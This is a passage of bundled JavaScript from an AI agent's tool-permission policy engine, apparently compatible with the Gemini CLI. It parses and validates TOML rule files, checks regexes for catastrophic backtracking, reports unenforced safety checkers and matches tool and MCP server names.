            continue;
        }
        if (char === ')') {
            index += 1;
            afterAtom = true;
            yield { kind: 'close', text: ')', start };
            continue;
        }
        const quantifier = afterAtom
            ? /^(?:[*+?]|\{\d+(?:,\d*)?\})\??/.exec(pattern.slice(index))
            : null;
        if (quantifier) {
            index += quantifier[0].length;
            afterAtom = false;
            yield { kind: 'quantifier', text: quantifier[0], start };
            continue;
        }
        index += 1;
        afterAtom = !/[|^$]/.test(char);
        yield { kind: 'literal', text: char, start };
    }
}
/** The first repeated group that contains a repetition, e.g. `(a+)+` in `^(a+)+$`. */
function findNestedRepetition(pattern) {
    const frames = [
        { start: 0, contentStart: 0, repeats: false },
    ];
    const all = [...tokens(pattern)];
    for (let position = 0; position < all.length; position += 1) {
        const token = all[position];
        if (!token)
            continue;
        const top = frames[frames.length - 1];
        if (token.kind === 'open') {
            frames.push({
                start: token.start,
                contentStart: token.start + token.text.length,
                repeats: false,
            });
        }
        else if (token.kind === 'quantifier') {
            if (top)
                top.repeats = true;
        }
        else if (token.kind === 'close' && frames.length > 1) {
            const frame = frames.pop();
            const parent = frames[frames.length - 1];
            const next = all[position + 1];
            const quantified = next?.kind === 'quantifier';
            if (frame && quantified && frame.repeats) {
                const group = pattern.slice(frame.start, next.start + next.text.length);
                const content = pattern.slice(frame.contentStart, token.start);
                return { group, suggestion: suggestFlattening({ group, content, outer: next.text }) };
            }
            if (parent && frame && (quantified || frame.repeats))
                parent.repeats = true;
        }
    }
    return undefined;
}
/** `(a+)+` → `a+`; `(\w*)+` → `\w*`; otherwise a general example. */
function suggestFlattening(parts) {
    const { group, content, outer } = parts;
    const single = /^(\\.|\[(?:\\.|[^\]\\])*\]|[^\\[()|])([*+])$/.exec(content);
    if (single?.[1] && single[2]) {
        const inner = single[2];
        const combined = inner === '+' && outer.startsWith('+') ? '+' : '*';
        return `"${single[1]}${combined}" instead of "${group}"`;
    }
    return `"[\\w\\s]*" instead of "(\\w+\\s?)*"`;
}
/** `Invalid regular expression: /(/: Unterminated group` → `Unterminated group`. */
function stripPatternEcho(message) {
    return message.replace(/^Invalid regular expression: \/[\s\S]*\/[a-z]*: /, '');
}

;// CONCATENATED MODULE: ./src/policy/safety-checkers.ts
/**
 * The Gemini CLI's safety checkers: `[[safety_checker]]` tables (and a rule's own
 * `safety_checker` table), each naming a checker program the Gemini CLI runs on matching calls.
 * This agent runs none. A file that has them still loads, as it does in the Gemini CLI; a
 * malformed one is an error, as there; a well-formed one is reported as not enforced, with what
 * covers its purpose here, so nobody believes a check runs that does not.
 */

const SAFETY_CHECKER_KEY = 'safety_checker';
const CHECKER_TYPES = ['in-process', 'external'];
/** The Gemini CLI's in-process checkers (its policy/types.ts, InProcessCheckerType). */
const IN_PROCESS_CHECKERS = ['allowed-path', 'conseca'];
/** Top-level `[[safety_checker]]` tables. */
function readSafetyCheckerTables(value, report, warn) {
    if (!Array.isArray(value)) {
        report([SAFETY_CHECKER_KEY], `safety checkers must be written as [[safety_checker]] tables, but safety_checker is ${describeValue(value)}`);
        return;
    }
    value.forEach((entry, index) => {
        const path = [SAFETY_CHECKER_KEY, index];
        if (!isTable(entry)) {
            report(path, `each [[safety_checker]] must be a table, but entry ${index + 1} is ${describeValue(entry)}`);
            return;
        }
        if (!('toolName' in entry)) {
            report(path, 'this [[safety_checker]] has no toolName; add the tools it checks ("*" for every tool)');
            return;
        }
        checkChecker(entry, path, report, warn);
    });
}
/** A rule's own `safety_checker` table (`[rule.safety_checker]`). */
function readSafetyChecker(context, key, warn) {
    const value = context.table[key];
    const path = [...context.path, key];
    if (!isTable(value)) {
        context.report(path, `${key} must be a table, but is ${describeValue(value)}`);
        return;
    }
    checkChecker(value, path, (at, message) => {
        context.report(at, message);
    }, warn);
}
/** The `checker` table (or the table itself, when it names the checker directly). */
function checkChecker(table, path, report, warn) {
    const checker = isTable(table.checker) ? table.checker : table;
    const at = isTable(table.checker) ? [...path, 'checker'] : path;
    const { type, name } = checker;
    if (typeof type !== 'string' || !CHECKER_TYPES.includes(type)) {
        report(at, `a safety checker needs type = ${quoteChoices(CHECKER_TYPES)}`);
        return;
    }
    if (typeof name !== 'string' || name.trim() === '') {
        report(at, 'a safety checker needs a name (the checker to run)');
        return;
    }
    if (type === 'in-process' && !IN_PROCESS_CHECKERS.includes(name)) {
        report(at, `the in-process safety checker must be ${quoteChoices(IN_PROCESS_CHECKERS)}, but is ${JSON.stringify(name)}`);
        return;
    }
    warn(at, notEnforced(type, name));
}
function notEnforced(type, name) {
    if (type === 'in-process' && name === 'allowed-path') {
        return 'the safety checker "allowed-path" is not run here; what it checks, that paths stay inside the workspace, is checked here anyway for every tool and for the files shell commands name';
    }
    return `the ${type} safety checker "${name}" is not run here (this agent runs no safety checkers); the policy's rules alone decide the calls it would have checked`;
}

// EXTERNAL MODULE: ./src/platform/run-mode.ts
var run_mode = __webpack_require__(37816);
;// CONCATENATED MODULE: ./src/policy/rule-tables.ts




/** The Gemini CLI's approval modes (`modes`); this product always runs in `default`. */
const APPROVAL_MODES = ['default', 'autoEdit', 'plan', 'yolo'];
const SHELL_TOOL_NAME = 'run_shell_command';
const DECISIONS = ['allow', 'deny', 'ask_user'];
/**
 * Tools known by more than one name (the spec's and the current Gemini CLI's). A rule naming
 * either applies to the tool under both, whichever name the call arrives with.
 */
const TOOL_NAME_GROUPS = [['search_file_content', 'grep_search']];
const RULE_FIELDS = [
    'toolName',
    'mcpName',
    'argsPattern',
    'commandPrefix',
    'commandRegex',
    'decision',
    'priority',
    'modes',
    'interactive',
    'toolAnnotations',
    'allowRedirection',
    'denyMessage',
    'pathPattern',
    'excludedPaths',
    'maxCalls',
    'runModes',
    'trust',
];
/** The Gemini CLI's older snake_case spellings, and the spec's `excluded_paths`. */
const RULE_ALIASES = {
    allow_redirection: 'allowRedirection',
    deny_message: 'denyMessage',
    excluded_paths: 'excludedPaths',
};
/**
 * `[[rule]]` tables. `warn` gets what the Gemini CLI accepts but this agent does not act on: keys
 * it ignores, a rule's own `safety_checker`.
 */
function readRuleTables(value, report, warn) {
    if (!Array.isArray(value)) {
        report(['rule'], `rules must be written as [[rule]] tables (an array of tables), but rule is ${describeValue(value)}`);
        return [];
    }
    return value.map((entry, index) => {
        const path = ['rule', index];
        if (!isTable(entry)) {
            report(path, `each rule must be a table, but rule ${index + 1} is ${describeValue(entry)}`);
            return { path };
        }
        return { path, body: readRule({ table: entry, path, report }, warn) };
    });
}
/** One `[[rule]]` table; `undefined` when it has problems (they are reported). */
function readRule(context, warn) {
    let problems = 0;
    const report = (path, message) => {
        problems += 1;
        context.report(path, message);
    };
    const rule = { ...context, report };
    const at = (key) => [...context.path, key];
    checkKeys(rule, {
        known: [...RULE_FIELDS, 'subagent', SAFETY_CHECKER_KEY],
        aliases: RULE_ALIASES,
        where: '[[rule]]',
        explain: (key) => {
            if (key === 'mode') {
                return 'mode belongs to [tools.<name>] tables; in a [[rule]] table write decision = "allow", "deny" or "ask_user"';
            }
            return undefined;
        },
        ignoreUnknown: (path, key) => {
            warn(path, `the field "${key}" is not a rule condition; it is ignored, as the Gemini CLI ignores it`);
        },
    });
    const subagent = readString(rule, 'subagent', { nonEmpty: true });
    if (hasField(rule, SAFETY_CHECKER_KEY)) {
        readSafetyChecker({
            table: { [SAFETY_CHECKER_KEY]: rule.table[SAFETY_CHECKER_KEY] },
            path: context.path,
            report,
        }, SAFETY_CHECKER_KEY, warn);
    }
    const toolNames = readStringList(rule, 'toolName', {
        noun: 'tool name',
        emptyMessage: 'toolName must list at least one tool; use "*" to match every tool',
        blankMessage: 'toolName must not be empty; use "*" to match every tool',
    });
    const mcpName = readString(rule, 'mcpName', { nonEmpty: true });
    const argsPattern = readRegex(rule, 'argsPattern');
    const commandPrefixes = readStringList(rule, 'commandPrefix', {
        noun: 'command prefix',
        emptyMessage: 'commandPrefix must list at least one command',
        blankMessage: 'commandPrefix entries must not be empty (an empty prefix would match every command)',
    });
    const commandRegex = readRegex(rule, 'commandRegex');
    const decision = readChoice(rule, 'decision', DECISIONS);
    const priority = readInteger(rule, 'priority', {
        min: 0,
        max: 999,
        expected: 'an integer from 0 to 999',
        tooLarge: 'priorities of 1000 and more would reach into the next tier',
    });
    const modes = readChoiceList(rule, 'modes', APPROVAL_MODES);
    const interactive = readBoolean(rule, 'interactive');
    const toolAnnotations = readTable(rule, 'toolAnnotations');
    const allowRedirection = readBoolean(rule, 'allowRedirection', { alias: 'allow_redirection' });
    const denyMessage = readString(rule, 'denyMessage', { alias: 'deny_message' });
    const pathPatterns = readStringList(rule, 'pathPattern', {
        noun: 'glob pattern',
        emptyMessage: 'pathPattern must list at least one glob pattern',
        check: checkPathPattern,
    })?.map((pattern) => pattern.replace(/^(?:\.\/)+/, ''));
    const excludedPaths = readStringList(rule, 'excludedPaths', {
        alias: 'excluded_paths',
        noun: 'glob pattern',
        emptyMessage: `${writtenName(rule, 'excludedPaths', 'excluded_paths')} must list at least one glob pattern`,
    });
    const maxCalls = readInteger(rule, 'maxCalls', {
        min: 1,
        max: Number.MAX_SAFE_INTEGER,
        expected: 'a positive integer',
    });
    const runModes = readChoiceList(rule, 'runModes', run_mode/* RUN_MODES */.P, {
        emptyMessage: 'runModes must list at least one run mode (leave it out to match every mode)',
    });
    const trust = readChoiceList(rule, 'trust', run_mode/* RUN_TRUSTS */.o, {
        emptyMessage: 'trust must list at least one of "maintainer" or "automatic" (leave it out to match both)',
    });
    const shellField = hasField(rule, 'commandPrefix')
        ? 'commandPrefix'
        : hasField(rule, 'commandRegex')
            ? 'commandRegex'
            : undefined;
    if (shellField) {
        if (hasField(rule, 'commandPrefix') && hasField(rule, 'commandRegex')) {
            report(at('commandRegex'), 'commandPrefix and commandRegex cannot be used in the same rule; write two rules');
        }
        if (hasField(rule, 'argsPattern')) {
            report(at('argsPattern'), `argsPattern cannot be combined with ${shellField}, which already matches the command; use one of them`);
        }
        if (toolNames && !toolNames.every((name) => name === SHELL_TOOL_NAME)) {
            report(at(shellField), `${shellField} only applies to ${SHELL_TOOL_NAME}, but toolName is ` +
                `${JSON.stringify(context.table.toolName)}; set toolName = "${SHELL_TOOL_NAME}" or use argsPattern`);
        }
        else if (mcpName !== undefined) {
            report(at(shellField), `${shellField} only applies to ${SHELL_TOOL_NAME}, which is not an MCP tool; remove mcpName`);
        }
    }
    if (decision === undefined && !hasField(rule, 'decision')) {
        report(context.path, `this [[rule]] has no decision; add decision = "allow", "deny" or "ask_user"`);
    }
    if (priority === undefined && !hasField(rule, 'priority')) {
        report(context.path, 'this [[rule]] has no priority; add priority = <an integer from 0 to 999>');
    }
    if (decision !== undefined && decision !== 'allow') {
        if (maxCalls !== undefined) {
            report(at('maxCalls'), `maxCalls only applies to allow rules, but this rule's decision is "${decision}"`);
        }
        if (excludedPaths !== undefined) {
            const key = writtenName(rule, 'excludedPaths', 'excluded_paths');
            report(at(key), `${key} only has an effect on allow rules (a matching path turns the allow into ask_user), ` +
                `but this rule's decision is "${decision}"; to deny paths, write a deny rule with pathPattern`);
        }
    }
    if (problems > 0 || decision === undefined || priority === undefined)
        return undefined;
    const names = qualifyToolNames(toolNames ?? (shellField ? [SHELL_TOOL_NAME] : undefined), mcpName);
    return {
        ...(names ? { toolNames: names } : {}),
        ...(mcpName !== undefined ? { mcpName } : {}),
        ...(argsPattern ? { argsPattern } : {}),
        ...(commandPrefixes ? { commandPrefixes } : {}),
        ...(commandRegex ? { commandRegex } : {}),
        decision,
        priority,
        ...(modes ? { approvalModes: modes } : {}),
        ...(interactive !== undefined ? { interactive } : {}),
        ...(toolAnnotations ? { toolAnnotations: { ...toolAnnotations } } : {}),
        ...(allowRedirection !== undefined ? { allowRedirection } : {}),
        ...(denyMessage !== undefined ? { denyMessage } : {}),
        ...(pathPatterns ? { pathPatterns } : {}),
        ...(excludedPaths ? { excludedPaths } : {}),
        ...(maxCalls !== undefined ? { maxCalls } : {}),
        ...(runModes ? { runModes } : {}),
        ...(trust ? { trust } : {}),
        ...(subagent !== undefined ? { subagent } : {}),
    };
}
function readRegex(context, key) {
    const pattern = readString(context, key);
    if (pattern === undefined)
        return undefined;
    const compiled = compileSafeRegex(pattern);
    if (compiled.ok)
        return compiled.regex;
    context.report([...context.path, key], `${key} ${JSON.stringify(pattern)} ${compiled.problem}`);
    return undefined;
}
/** Paths are matched workspace-relative, so a pattern that leaves the workspace never matches. */
function checkPathPattern(pattern) {
    if (/^(?:\/|~|[A-Za-z]:[\\/])/.test(pattern)) {
        return (`pathPattern ${JSON.stringify(pattern)} is absolute, but paths are matched relative to the ` +
            `workspace root (e.g. "src/**"); use excludedPaths for paths outside the workspace`);
    }
    if (pattern.split('/').includes('..')) {
        return (`pathPattern ${JSON.stringify(pattern)} contains "..", but paths are matched relative to the ` +
            `workspace root and never leave it`);
    }
    return undefined;
}
/**
 * With `mcpName`, tool names become the MCP tools' full names `mcp_<server>_<tool>` (no toolName:
 * `mcp_<server>_*`, every tool of the server), as the Gemini CLI names them. Names with another
 * spelling also get that spelling.
 */
function qualifyToolNames(names, mcpName) {
    let result = names ? [...names] : undefined;
    // `mcpName = "*"` (any server) leaves the names as written: there is no one server to qualify with.
    if (mcpName !== undefined && mcpName !== '*') {
        const prefix = `mcp_${mcpName}_`;
        result = (result ?? ['*']).map((name) => (name.startsWith(prefix) ? name : `${prefix}${name}`));
    }
    if (!result)
        return undefined;
    const expanded = result.flatMap((name) => TOOL_NAME_GROUPS.find((group) => group.includes(name)) ?? [name]);
    return [...new Set(expanded)];
}

// EXTERNAL MODULE: ./src/policy/toml-positions.ts
var toml_positions = __webpack_require__(33165);
;// CONCATENATED MODULE: ./src/policy/tools-tables.ts


/**
 * The priority of every rule made from a `[tools.<name>]` table. It is the lowest in its tier: such
 * a table sets a tool's baseline, and any `[[rule]]` of the same tier refines it (a `[[rule]]` of
 * priority 0 ties with it, and then the one written first wins).
 */
const TOOLS_TABLE_PRIORITY = 0;
const TOOL_MODES = {
    always_allow: 'allow',
    always_deny: 'deny',
    ask_user: 'ask_user',
};
const TOOL_MODE_NAMES = Object.keys(TOOL_MODES);
const TOOLS_TABLE_FIELDS = ['mode', 'excluded_paths', 'denyMessage'];
const TOOLS_TABLE_ALIASES = {
    excludedPaths: 'excluded_paths',
    deny_message: 'denyMessage',
};
function readToolsTables(value, report) {
    if (!isTable(value)) {
        report(['tools'], `tools must be a table of tool tables such as [tools.write_file], but is ${describeValue(value)}`);
        return [];
    }
    return Object.entries(value).map(([name, entry]) => {
        const path = ['tools', name];
        const where = `[tools.${/^[A-Za-z0-9_-]+$/.test(name) ? name : JSON.stringify(name)}]`;
        if (name.trim() === '') {
            report(path, 'a [tools.<name>] table needs a tool name; use "*" to match every tool');
            return { path };
        }
        if (!isTable(entry)) {
            report(path, `tools.${name} must be a table (${where} with mode = "always_allow", "always_deny" or ` +
                `"ask_user"), but is ${describeValue(entry)}`);
            return { path };
        }
        return { path, body: readToolsTable({ table: entry, path, report }, name, where) };
    });
}
/** One `[tools.<name>]` table of the spec's format. */
function readToolsTable(context, name, where) {
    let problems = 0;
    const table = {
        ...context,
        report: (path, message) => {
            problems += 1;
            context.report(path, message);
        },
    };
    checkKeys(table, {
        known: TOOLS_TABLE_FIELDS,
        aliases: TOOLS_TABLE_ALIASES,
        where,
        explain: (key) => RULE_FIELDS.includes(key) || key in RULE_ALIASES
            ? `${key} is a [[rule]] field; ${where} tables take only mode, excluded_paths and ` +
                `denyMessage, so write a [[rule]] table with toolName = ${JSON.stringify(name)} to use ${key}`
            : undefined,
    });
    const mode = readChoice(table, 'mode', TOOL_MODE_NAMES);
    const excludedPaths = readStringList(table, 'excluded_paths', {
        alias: 'excludedPaths',
        noun: 'glob pattern',
        emptyMessage: `${writtenName(table, 'excluded_paths', 'excludedPaths')} must list at least one glob pattern`,
    });
    const denyMessage = readString(table, 'denyMessage', { alias: 'deny_message' });
    if (!hasField(table, 'mode')) {
        table.report(context.path, `${where} has no mode; add mode = "always_allow", "always_deny" or "ask_user"`);
    }
    else if (mode !== undefined && mode !== 'always_allow' && excludedPaths !== undefined) {
        const key = writtenName(table, 'excluded_paths', 'excludedPaths');
        table.report([...context.path, key], `${key} only has an effect with mode = "always_allow" (a matching path turns the allow into ` +
            `ask_user), but mode is "${mode}"`);
    }
    if (problems > 0 || mode === undefined)
        return undefined;
    return {
        toolNames: qualifyToolNames([name], undefined) ?? [name],
        decision: TOOL_MODES[mode],
        priority: TOOLS_TABLE_PRIORITY,
        ...(excludedPaths ? { excludedPaths } : {}),
        ...(denyMessage !== undefined ? { denyMessage } : {}),
    };
}

;// CONCATENATED MODULE: ./src/policy/parse-policy.ts
/**
 * Policy TOML text → rules. Two formats, which may be mixed in one file:
 *
 * - the Gemini CLI's `[[rule]]` tables (toolName, mcpName, argsPattern, commandPrefix, commandRegex,
 *   decision, priority, modes, interactive, toolAnnotations, allowRedirection, denyMessage) plus our
 *   additions (pathPattern, excludedPaths, maxCalls, runModes, trust);
 * - the spec's `[tools.<name>]` tables (`mode`, `excluded_paths`), each one rule at the fixed
 *   priority {@link TOOLS_TABLE_PRIORITY}.
 *
 * The Gemini CLI's `[[safety_checker]]` tables and keys it ignores in a `[[rule]]` load
 * with a warning saying what they mean here. Anything else is an error: every
 * problem of the file is collected and thrown as one {@link PolicyFileError}, each with the file,
 * line and column of the key (or table) at fault. Pure: no I/O.
 */










const TOP_LEVEL_KEYS = ['rule', 'tools', SAFETY_CHECKER_KEY];
/** Parses one policy file; throws a {@link PolicyFileError} listing every problem in it. */
function parsePolicy(text, source) {
    const { rules, problems } = checkPolicy(text, source);
    if (problems.length > 0)
        throw new PolicyFileError(problems);
    return rules;
}
/** Like {@link parsePolicy}, but returns the problems (so a loader can report several files). */
function checkPolicy(text, source) {
    let document;
    try {
        document = (0,dist/* parse */.qg)(text, { unsafeKeyBehaviour: 'throw' });
    }
    catch (error) {
        if (!(error instanceof dist/* TomlError */.zx))
            throw error;
        const reason = (error.message.split('\n')[0] ?? '').replace(/^Invalid TOML document: /, '');
        const problem = { file: source.file, line: error.line, column: error.column };
        return {
            rules: [],
            problems: [{ ...problem, message: `TOML syntax error: ${reason}` }],
            warnings: [],
        };
    }
    const positions = (0,toml_positions/* scanTomlPositions */.i)(text);
    const problems = [];
    const report = (path, message) => {
        problems.push({ file: source.file, ...positions.locate(path), message });
    };
    const warnings = [];
    const warn = (path, message) => {
        warnings.push({ file: source.file, ...positions.locate(path), message });
    };
    const drafts = [];
    const add = (path, body) => {
        if (body)
            drafts.push({ at: positions.locate(path), body });
    };
    for (const [key, value] of Object.entries(document)) {
        if (key === 'rule') {
            readRuleTables(value, report, warn).forEach(({ path, body }) => {
                add(path, body);
            });
        }
        else if (key === 'tools') {
            readToolsTables(value, report).forEach(({ path, body }) => {
                add(path, body);
            });
        }
        else if (key === SAFETY_CHECKER_KEY) {
            readSafetyCheckerTables(value, report, warn);
        }
        else {
            report([key], `unknown top-level key "${key}"; a policy file holds [[rule]] tables and [tools.<name>] ` +
                `tables${didYouMean(key, TOP_LEVEL_KEYS)}`);
        }
    }
    problems.sort((a, b) => a.line - b.line || a.column - b.column);
    warnings.sort((a, b) => a.line - b.line || a.column - b.column);
    drafts.sort((a, b) => a.at.line - b.at.line || a.at.column - b.at.column);
    const rules = drafts.map(({ at, body }, index) => ({
        ...body,
        id: `${source.file}#${index}`,
        effectivePriority: policy_types/* TIER_BASE */.H[source.tier] + body.priority / 1000,
        source: { file: source.file, line: at.line, column: at.column, tier: source.tier },
    }));
    return { rules, problems, warnings };
}


/***/ }),

/***/ 52468:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   sG: () => (/* binding */ outcomeOf),
/* harmony export */   u3: () => (/* binding */ createPolicyConfirmer)
/* harmony export */ });
/* unused harmony exports askUserDenial, policyCall, summarizeSubcommands */
/* harmony import */ var _rule_matching_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(67496);

/** What the model reads when the policy would have asked a person. */
function askUserDenial(toolName, reason) {
    return [
        `Tool execution for "${toolName}" requires user confirmation, which is not supported in non-interactive mode.`,
        `Nobody can confirm tool calls in this run, so this call will not run: ${reason}`,
        'Do not retry it. Use a tool or command the policy allows instead, or finish and say in your answer what you could not do and why.',
    ].join(' ');
}
function createPolicyConfirmer(options) {
    return {
        async confirm(question, signal) {
            // A subagent's calls are judged with its name, for rules scoped to it (`subagent = "…"`).
            const context = question.subagent === undefined
                ? options.context
                : { ...options.context, subagent: question.subagent };
            const verdict = await options.engine.decide(policyCall(question), context);
            if (verdict.decision === 'ask_user' && options.askUser !== undefined) {
                return options.askUser(question, verdict, signal);
            }
            return outcomeOf(question.toolName, verdict);
        },
    };
}
/** The call as the policy sees it: the validated parameters that will be executed. */
function policyCall(question) {
    return {
        toolName: question.toolName,
        args: question.args,
        kind: question.kind,
        ...(question.serverName === undefined ? {} : { serverName: question.serverName }),
        locations: question.locations,
    };
}
function outcomeOf(toolName, verdict) {
    const decided_by = verdict.decidedBy;
    switch (verdict.decision) {
        case 'allow':
            return { decision: 'allow', reason: withSubcommands(verdict), decided_by };
        case 'deny':
            return { decision: 'deny', reason: verdict.reason, decided_by };
        case 'ask_user':
            return { decision: 'deny', reason: askUserDenial(toolName, verdict.reason), decided_by };
    }
}
/**
 * An allowed shell command of several sub-commands, with the rule that allowed each, for the
 * transcript. (Denials already name the sub-commands that were refused.)
 */
function withSubcommands(verdict) {
    const subcommands = verdict.subcommands ?? [];
    if (subcommands.length < 2)
        return verdict.reason;
    return `${verdict.reason} ${summarizeSubcommands(subcommands)}`;
}
/** `Sub-commands: `git status` allow (policy.toml:3:1); `ls` allow (policy.toml:9:1).` */
function summarizeSubcommands(subcommands) {
    const parts = subcommands.map((sub) => `\`${sub.text}\` ${sub.decision} (${sub.decidedBy ?? (sub.rule ? (0,_rule_matching_js__WEBPACK_IMPORTED_MODULE_0__/* .ruleLocation */ .eK)(sub.rule) : 'no rule')})`);
    return `Sub-commands: ${parts.join('; ')}.`;
}


/***/ }),

/***/ 5226:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   V: () => (/* binding */ formatProblem),
/* harmony export */   z: () => (/* binding */ PolicyFileError)
/* harmony export */ });
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
/**
 * Everything wrong with one or more policy files, reported at once: a maintainer fixing a policy
 * in CI should not need one run per typo. Each problem is one line `file:line:column: message`.
 */

class PolicyFileError extends _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .ConfigurationError */ .j1 {
    name = 'PolicyFileError';
    /** In the order found: by file, then by position in the file. */
    problems;
    constructor(problems) {
        const [first] = problems;
        if (!first)
            throw new Error('PolicyFileError needs at least one problem');
        super(first.message, { file: first.file, line: first.line, column: first.column });
        this.problems = problems;
        // The location of every problem leads its own line, so the message lists them all alike.
        this.message = problems.map(formatProblem).join('\n');
    }
}
function formatProblem(problem) {
    return `${problem.file}:${problem.line}:${problem.column}: ${problem.message}`;
}


/***/ }),

/***/ 45578:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   H: () => (/* binding */ TIER_BASE)
/* harmony export */ });
const TIER_BASE = {
    default: 1,
    repository: 2,
    workflow: 3,
    admin: 4,
};


/***/ }),

/***/ 67496:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   RF: () => (/* binding */ matchesRun),
/* harmony export */   ST: () => (/* binding */ describeDecider),
/* harmony export */   Wn: () => (/* binding */ SHELL_TOOL_NAME),
/* harmony export */   Xg: () => (/* binding */ CallCounter),
/* harmony export */   eK: () => (/* reexport safe */ _describe_rule_js__WEBPACK_IMPORTED_MODULE_3__.eK),
/* harmony export */   f0: () => (/* binding */ matchesCommand),
/* harmony export */   f3: () => (/* binding */ excludedPathHit),
/* harmony export */   gi: () => (/* binding */ hasCommandConditions),
/* harmony export */   hR: () => (/* binding */ callPaths),
/* harmony export */   iD: () => (/* binding */ matchesSubject),
/* harmony export */   rb: () => (/* binding */ matchesCommandExactly),
/* harmony export */   y4: () => (/* binding */ matchesTool)
/* harmony export */ });
/* unused harmony exports APPROVAL_MODE, matchesAnnotations, matchesArgs, expandHome, matchesPaths, prefixMatches */
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(57975);
/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_util__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var picomatch__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(14006);
/* harmony import */ var picomatch__WEBPACK_IMPORTED_MODULE_4___default = /*#__PURE__*/__webpack_require__.n(picomatch__WEBPACK_IMPORTED_MODULE_4__);
/* harmony import */ var _argument_text_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(5535);
/* harmony import */ var _describe_rule_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(74996);
/**
 * Whether one policy rule's conditions hold for a call. Every condition a rule has must hold for
 * it to match; a condition the rule does not have always holds. The engine decides what a match
 * means (first match wins); this file only answers "does it match".
 *
 * Pure: no I/O. Paths are compared as text (the workspace has already resolved symlinks for the
 * locations tools report).
 */






/** The shell tool: its calls are judged per sub-command. */
const SHELL_TOOL_NAME = 'run_shell_command';
/**
 * The Gemini CLI approval mode this product runs in. A rule with `modes` applies only if they
 * include it: we never run in `yolo` or `autoEdit` (our `--yolo` is a rule, not a mode).
 */
const APPROVAL_MODE = 'default';
/** The prefix of MCP tool names in the Gemini CLI's current naming (`mcp_<server>_<tool>`). */
const MCP_PREFIX = 'mcp_';
// ---- locations and sources ------------------------------------------------------------------
/** `file:line:column (tier, priority N.NNN)`: what the transcript shows as `decided_by`. */
function describeDecider(rule) {
    return rule ? (0,_describe_rule_js__WEBPACK_IMPORTED_MODULE_3__/* .ruleOrigin */ .fB)(rule) : 'default (no rule matched)';
}
/**
 * The forms of each path argument. Tools report paths relative to the workspace when they lie
 * inside it; anything else (absolute, or escaping with `..`) is kept absolute only, so a relative
 * pattern such as `**` never matches a path outside the workspace.
 */
function callPaths(locations, workspaceRoot) {
    return locations.map((written) => {
        const absolute = node_path__WEBPACK_IMPORTED_MODULE_0___default().resolve(workspaceRoot, written);
        const relative = node_path__WEBPACK_IMPORTED_MODULE_0___default().relative(workspaceRoot, absolute);
        const inside = relative === '' || (!relative.startsWith('..') && !node_path__WEBPACK_IMPORTED_MODULE_0___default().isAbsolute(relative));
        if (!inside)
            return { written, absolute };
        return {
            written,
            absolute,
            relative: relative === '' ? '.' : relative.split((node_path__WEBPACK_IMPORTED_MODULE_0___default().sep)).join('/'),
        };
    });
}
// ---- tool name, server, context -------------------------------------------------------------
/** The server-less name of an MCP tool (`mcp_srv_tool` and `srv__tool` both give `tool`). */
function shortMcpName(tool) {
    for (const prefix of [`${MCP_PREFIX}${tool.serverName}_`, `${tool.serverName}__`]) {
        if (tool.name.startsWith(prefix) && tool.name.length > prefix.length) {
            return tool.name.slice(prefix.length);
        }
    }
    return tool.name;
}
/**
 * Whether an MCP tool's name is not dressed as another server's tool: a name in the qualified
 * forms (`mcp_<server>_…`, `<server>__…`) must carry its own server's name. A server-wide allow
 * (`mcp_<server>_*`, or `mcpName` with every tool) covers only such names, as the Gemini CLI's
 * does, where every MCP tool's name is `mcp_<server>_<tool>`.
 */
function carriesOwnServerName(tool) {
    if (tool.name.startsWith(MCP_PREFIX)) {
        return tool.name.startsWith(`${MCP_PREFIX}${tool.serverName}_`);
    }
    if (tool.name.includes('__'))
        return tool.name.startsWith(`${tool.serverName}__`);
    return true;
}
/**
 * Whether one `toolName` entry names the tool. `*` is every tool; `mcp_*` every MCP tool;
 * `mcp_<server>_*` every tool of that server (for an allow, only names that carry the server's
 * own; see `carriesOwnServerName`). An MCP tool answers to the name it is registered under and to
 * its qualified names (`mcp_<server>_<tool>`, `<server>__<tool>`); to the server's own name for it
 * (registered as `mcp_github_read_file`, called `read_file` by the server) only when the rule pins
 * the server with `mcpName` — otherwise an allow for the built-in `read_file` would also allow
 * that server's tool.
 */
function nameEntryMatches(entry, tool, rule, aliases) {
    if (entry === '*')
        return serverWideMatches(rule, tool);
    const { serverName } = tool;
    if (serverName === undefined) {
        return entry === tool.name || aliases[entry] === tool.name || !!tool.aliases?.includes(entry);
    }
    if (entry === `${MCP_PREFIX}*`)
        return true;
    if (entry.startsWith(MCP_PREFIX) && entry.endsWith('_*')) {
        if (entry.slice(MCP_PREFIX.length, -2) !== serverName)
            return false;
        return rule.decision !== 'allow' || carriesOwnServerName({ ...tool, serverName });
    }
    const short = shortMcpName({ ...tool, serverName });
    if (entry === tool.name)
        return true;
    if (entry === `${MCP_PREFIX}${serverName}_${short}` || entry === `${serverName}__${short}`) {
        return true;
    }
    return rule.mcpName === serverName && entry === short;
}
/**
 * Every tool of the rule's scope. With `mcpName = "<server>"` that is the Gemini CLI's
 * `mcp_<server>_*`, so an allow covers only names that carry the server's own; `mcpName = "*"`
 * (or none) has no such condition.
 */
function serverWideMatches(rule, tool) {
    if (rule.mcpName === undefined || rule.mcpName === '*' || rule.decision !== 'allow')
        return true;
    if (tool.serverName === undefined)
